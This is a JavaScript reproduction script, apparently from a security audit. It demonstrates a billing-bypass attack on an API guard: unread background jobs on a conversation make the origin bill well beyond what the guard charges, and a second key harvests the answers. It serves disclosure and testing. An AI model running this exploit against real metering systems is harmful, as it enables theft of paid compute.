// R84-4: the same gap as R84-1 through a Conversations API object (created empty outside the guard, as
// the docs expect: the guard has no route for it). Background jobs name `conversation`; the origin
// prepends every item the conversation holds and appends each job's input and answer when it ends.
// The first job carries a ~20,000-token document, the next ones a one-line question each; none is
// retrieved. Each later job bills the whole conversation as input; the guard charges its reservation.
// The answers are read at the end from one tiny foreground turn's input_items (second key: the first
// key's 8 concurrency slots are held by its unread jobs). Control: each job retrieved before the next.
import { api, billed, charged, newKey, originApi, waitDone, words } from './lib.mjs';
const N = +(process.env.N || 8), OUT = 2000, MODEL = 'gpt-4o';
const doc = words(12000, 5);
async function run(label, retrieve) {
  const key = newKey(label), reader = newKey(label + '-reader'), t0 = Date.now();
  const conv = await originApi(key, 'POST', '/v1/conversations', { metadata: { app: 'contract-qa' } }); // empty
  let done = 0, last = null;
  for (let i = 0; i < N; i++) {
    const r = await api(key, 'POST', '/v1/responses', { model: MODEL, conversation: conv.id, background: true, max_output_tokens: OUT, input: i === 0 ? `Here is the contract:\n${doc}\nQuestion 1: summarise it.` : `Question ${i + 1}: explain clause ${i + 1} in detail.` }, { 'x-out': String(OUT), 'x-job-ms': '300' });
    if (r.status !== 200) { console.log(`  ${label} job ${i + 1}: ${r.status} ${JSON.stringify(r.j).slice(0, 200)}`); break; }
    last = r.j.id; if (!(await waitDone(last))) break; done++;
    if (retrieve) await api(key, 'GET', `/v1/responses/${last}`);
  }
  const f = await api(reader, 'POST', '/v1/responses', { model: MODEL, conversation: conv.id, input: 'ok', max_output_tokens: 16 }, { 'x-out': '16' });
  let answers = 0;
  if (f.status === 200) { const q = await api(reader, 'GET', `/v1/responses/${f.j.id}/input_items?limit=100`); answers = q.status === 200 ? q.j.data.filter((x) => x.role === 'assistant').length : 0; }
  else console.log(`  final ${f.status} ${JSON.stringify(f.j).slice(0, 200)}`);
  const c1 = await charged(key, t0), c2 = await charged(reader, t0, 0), b1 = await billed(key), b2 = await billed(reader);
  console.log(`${label}: ${done} jobs on ${conv.id}, ${answers} answers read via input_items; job key billed ${b1} charged ${c1.drawn} (${(b1 / c1.drawn).toFixed(2)}x); reader billed ${b2} charged ${c2.drawn}; total billed ${b1 + b2} charged ${c1.drawn + c2.drawn}`);
  return { b: b1 + b2, c: c1.drawn + c2.drawn, kb: b1, kc: c1.drawn, answers };
}
const ctl = await run('conv-control', true);
const atk = await run('conv-unread', false);
console.log(`attack ${(atk.b / atk.c).toFixed(2)}x under overall (job key ${(atk.kb / atk.kc).toFixed(2)}x), control ${(ctl.b / ctl.c).toFixed(2)}x`);
console.log(atk.answers >= N && atk.b > 1.5 * atk.c && ctl.b <= 1.2 * ctl.c ? 'REPRODUCED' : 'not reproduced');
